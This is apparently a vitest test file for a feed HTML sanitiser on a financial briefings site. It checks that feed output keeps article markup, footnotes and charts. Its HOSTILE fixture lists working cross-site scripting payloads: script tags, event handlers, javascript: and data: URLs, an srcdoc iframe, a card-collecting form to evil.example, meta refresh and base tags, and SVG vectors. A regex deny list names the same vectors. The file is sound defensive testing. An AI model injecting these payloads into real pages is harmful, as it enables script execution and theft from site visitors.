import type { Element, Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import type { PriceRow } from '../../src/engine/price-history.ts';
import { barChart } from '../../src/outputs/charts/bar-chart.ts';
import { priceChart } from '../../src/outputs/charts/price-chart.ts';
import { jsonFeed, rssFeed, type FeedEntry } from '../../src/outputs/feed/feed-documents.ts';
import { feedHtml } from '../../src/outputs/feed/feed-html.ts';

const PAGE = 'https://t.example/briefings/amazon/';
const clean = (html: string) => feedHtml(html, PAGE);

/** Every way in that a feed reader must not see, one per line. */
const HOSTILE = [
  '<p>Text <script>alert(1)</script><SCRIPT src="https://evil.example/x.js"></SCRIPT></p>',
  '<p><img src="x.png" alt="x" onerror="alert(2)"><a href="/ok/" onclick="alert(3)" onMouseOver="alert(4)">ok</a></p>',
  '<p><a href="javascript:alert(5)">Click</a> <a href=" JavaScript:alert(6)">Shout</a> <a href="java&#x09;script:alert(7)">Tab</a> <a href="vbscript:msgbox(8)">VB</a></p>',
  '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline"><img alt="set" srcset="data:image/svg+xml,<svg onload=alert(9)> 1x"><a href="data:text/html,<script>alert(10)</script>">data</a></p>',
  '<iframe src="https://evil.example/" srcdoc="<script>alert(11)</script>"></iframe>',
  '<form action="https://evil.example/collect"><input name="card"><button formaction="javascript:alert(12)">Pay</button></form>',
  '<p style="background:url(https://evil.example/track.png)" class="lead" id="config">Styled</p><style>body{display:none}</style>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<svg><script>alert(13)</script><a href="javascript:alert(14)"><text>svg link</text></a><animate attributeName="href" to="javascript:alert(15)"/><rect fill="url(https://evil.example/track)" width="1" height="1"/><foreignObject><p>foreign</p></foreignObject></svg>',
  '<!-- a comment --><template><p>template</p></template><noscript><p>noscript</p></noscript><textarea>typed</textarea>',
].join('\n');

describe('feed HTML', () => {
  it('lets no script, handler, javascript:/data: URL, frame, form, style or id through', () => {
    const html = clean(HOSTILE);
    for (const forbidden of [
      /<script/i,
      /alert/,
      /msgbox/,
      /\son\w+=/i,
      /javascript:/i,
      /vbscript:/i,
      /data:/,
      /<iframe/,
      /srcdoc/,
      /<form/,
      /<input/,
      /<button/,
      /formaction/,
      /style/,
      /class=/,
      /id="config"/,
      /<object/,
      /<embed/,
      /<meta/,
      /<base/,
      /<animate/,
      /url\(/,
      /foreignObject/i,
      /<!--/,
      /template|noscript|typed/,
      /evil\.example/,
    ]) {
      expect(html).not.toMatch(forbidden);
    }
    // What is left is the text and the harmless markup around it.
    expect(html).toBe(
      [
        '<p>Text </p>',
        '<p><img src="https://t.example/briefings/amazon/x.png" alt="x"><a href="https://t.example/ok/">ok</a></p>',
        '<p><a>Click</a> <a>Shout</a> <a>Tab</a> <a>VB</a></p>',
        '<p><img alt="inline"><img alt="set"><a>data</a></p>',
        '',
        '',
        '<p>Styled</p>',
        '',
        '<svg><a><text>svg link</text></a><rect width="1" height="1"></rect><p>foreign</p></svg>',
      ].join('\n'),
    );
  });

  it('keeps the markup of an article: headings, lists, tables with alignment, quotes, code, figures and times', () => {
    const article = [
      '<h2>Results</h2><h3>By segment</h3>',
      '<p><em>Revenue</em> rose <strong><data value="4200000000 USD">$4.2 billion</data></strong> on <time datetime="2026-02-01">1 February</time>, H<sub>2</sub>O, x<sup>2</sup>, <abbr title="Earnings per share">EPS</abbr>.</p>',
      '<ul><li>One</li></ul><ol start="3"><li>Three</li></ol>',
      '<table><thead><tr><th scope="col">Item</th><th scope="col" class="align-right">Value</th></tr></thead><tbody><tr><td colspan="1" rowspan="1">One</td><td class="align-right figure">1,200</td></tr></tbody></table>',
      '<blockquote cite="/sources/"><p>Quoted.</p></blockquote>',
      '<pre><code class="language-ts">const x = 1;</code></pre>',
      '<figure><img src="/images/chart.png" alt="A chart" width="640" height="280"><figcaption>Caption</figcaption></figure>',
    ].join('');
    expect(clean(article)).toBe(
      [
        '<h2>Results</h2><h3>By segment</h3>',
        '<p><em>Revenue</em> rose <strong><data value="4200000000 USD">$4.2 billion</data></strong> on <time datetime="2026-02-01">1 February</time>, H<sub>2</sub>O, x<sup>2</sup>, <abbr title="Earnings per share">EPS</abbr>.</p>',
        '<ul><li>One</li></ul><ol start="3"><li>Three</li></ol>',
        '<table><thead><tr><th scope="col">Item</th><th scope="col" align="right">Value</th></tr></thead><tbody><tr><td colspan="1" rowspan="1">One</td><td align="right">1,200</td></tr></tbody></table>',
        '<blockquote cite="https://t.example/sources/"><p>Quoted.</p></blockquote>',
        '<pre><code>const x = 1;</code></pre>',
        '<figure><img src="https://t.example/images/chart.png" alt="A chart" width="640" height="280"><figcaption>Caption</figcaption></figure>',
      ].join(''),
    );
  });

  it('drops sponsored blocks, unwraps heading anchors and makes URLs absolute', () => {
    const html = clean(
      '<h2 id="x"><a class="heading-anchor" href="#x">Head</a></h2><p>See <a href="/tickers/AMZN/" class="ticker-mention" title="Amazon.com, Inc. (NASDAQ: AMZN)">AMZN</a> <img src="chart.png" srcset="chart.png 1x, /chart@2x.png 2x" alt="chart"> and <a href="#x">the head</a>.</p><aside data-sponsored class="sponsored"><p>Buy now</p><a href="https://ads.example/">Ad link</a></aside><a href="mailto:desk@t.example">mail</a> <a href="https://other.example/a?b=1#c">away</a>',
    );
    expect(html).toBe(
      '<h2>Head</h2><p>See <a href="https://t.example/tickers/AMZN/" title="Amazon.com, Inc. (NASDAQ: AMZN)">AMZN</a> <img src="https://t.example/briefings/amazon/chart.png" srcset="https://t.example/briefings/amazon/chart.png 1x, https://t.example/chart@2x.png 2x" alt="chart"> and <a href="https://t.example/briefings/amazon/#x">the head</a>.</p><a href="mailto:desk@t.example">mail</a> <a href="https://other.example/a?b=1#c">away</a>',
    );
  });

  it('keeps footnotes linked within the item, with prefixed ids', () => {
    const footnotes =
      '<p>A claim.<sup><a href="#user-content-fn-note" id="user-content-fnref-note" data-footnote-ref aria-describedby="footnote-label">1</a></sup></p>' +
      '<section data-footnotes class="footnotes"><h2 class="sr-only" id="footnote-label">Footnotes</h2><ol><li id="user-content-fn-note"><p>The note. <a href="#user-content-fnref-note" data-footnote-backref="" aria-label="Back to reference 1" class="data-footnote-backref">↩</a></p></li></ol></section>';
    expect(clean(footnotes)).toBe(
      '<p>A claim.<sup><a href="#user-content-fn-note" id="user-content-fnref-note" data-footnote-ref="" aria-describedby="user-content-footnote-label">1</a></sup></p>' +
        '<section data-footnotes=""><h2 id="user-content-footnote-label">Footnotes</h2><ol><li id="user-content-fn-note"><p>The note. <a href="#user-content-fnref-note" data-footnote-backref="" aria-label="Back to reference 1" class="data-footnote-backref">↩</a></p></li></ol></section>',
    );
  });

  it("keeps the site's charts drawable: every element and presentation attribute but classes, titles still named", () => {
    const rows: PriceRow[] = Array.from({ length: 30 }, (_, index) => {
      const close = 100 + index;
      const date = new Date(Date.UTC(2026, 0, 1 + index)).toISOString().slice(0, 10);
      return { date, open: close, high: close, low: close, close, volume: 1 };
    });
    const charts = [
      priceChart({
        symbol: 'AMZN',
        rows,
        currency: 'USD',
        locale: 'en-GB',
        events: [{ title: 'Results', date: '2026-01-15' }],
      }),
      barChart({
        title: 'Revenue',
        unit: '$bn',
        data: [
          { label: 'Q1', value: 1.5 },
          { label: 'Q2', value: -0.5 },
        ],
        locale: 'en-GB',
      }),
    ];
    for (const chart of charts) {
      const html = clean(`<figure class="chart-figure">${chart.svg}<figcaption>${chart.caption}</figcaption></figure>`);
      const shape = (tree: Root, prefix: string) => {
        const elements: string[] = [];
        visit(tree, 'element', (node: Element) => {
          const properties: Record<string, unknown> = { ...node.properties, className: undefined };
          for (const key of ['id', 'ariaLabelledBy']) {
            const value = properties[key];
            if (typeof value === 'string') properties[key] = `${prefix}${value}`;
            if (Array.isArray(value)) properties[key] = value.map((id) => `${prefix}${String(id)}`);
          }
          elements.push(`${node.tagName} ${JSON.stringify(properties)}`);
        });
        return elements;
      };
      const before = shape(
        fromHtml(`<figure>${chart.svg}<figcaption>${chart.caption}</figcaption></figure>`, { fragment: true }),
        'user-content-',
      );
      expect(before.some((element) => /stroke|fill/.test(element))).toBe(true);
      expect(html).toMatch(/^<figure><svg [^>]*class="chart chart--(?:price|figure)"/);
      expect(html).not.toMatch(/chart__/);
      expect(shape(fromHtml(html, { fragment: true }), '')).toEqual(before);
      const svg = fromHtml(html, { fragment: true });
      const ids = new Set<string>();
      visit(svg, 'element', (node: Element) => {
        if (typeof node.properties['id'] === 'string') ids.add(node.properties['id']);
      });
      visit(svg, 'element', (node: Element) => {
        const labels = node.properties['ariaLabelledBy'];
        if (node.tagName === 'svg')
          expect(Array.isArray(labels) && labels.every((id) => ids.has(String(id)))).toBe(true);
      });
    }
  });

  it('reaches neither feed document with anything hostile', () => {
    const entry: FeedEntry = {
      id: 'hostile',
      url: PAGE,
      title: 'Hostile',
      dek: 'A dek.',
      publishedAt: '2026-02-01T10:17:05+01:00',
      authorName: 'Desk',
      tickers: [],
      tags: [],
      keyDevelopments: [],
      contentHtml: clean(HOSTILE),
    };
    const channel = {
      title: 'T',
      description: 'D',
      homePageUrl: 'https://t.example/',
      feedUrl: 'https://t.example/feed',
      locale: 'en-GB',
    };
    const clock = { locale: 'en-GB', timeZone: 'Europe/Berlin' };
    const documents = [
      JSON.stringify(rssFeed(channel, [entry], clock).items),
      JSON.stringify(jsonFeed(channel, [entry], clock)),
    ];
    for (const document of documents) {
      expect(document).toContain('svg link');
      expect(document).not.toMatch(/<script|\bon\w+=|javascript:|vbscript:|data:|<iframe|<form|style=|alert\(/i);
    }
  });
});
